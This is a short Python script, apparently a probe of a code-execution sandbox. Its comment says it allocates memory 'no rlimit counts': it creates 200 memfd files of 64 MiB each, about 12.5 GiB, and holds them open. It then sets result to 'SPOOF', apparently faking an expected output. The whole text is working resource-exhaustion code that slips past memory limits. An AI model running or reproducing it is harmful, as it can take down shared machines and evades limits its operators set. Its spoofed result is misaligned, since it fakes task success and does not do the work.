# Memory no rlimit counts: memfd pages, 64 MiB (RLIMIT_FSIZE) per file, one file per descriptor.
import os

fds = []
chunk = b"\0" * (1 << 20)
for _ in range(200):
    fd = os.memfd_create("flood")
    for _ in range(64):
        os.write(fd, chunk)
    fds.append(fd)
result = "SPOOF"
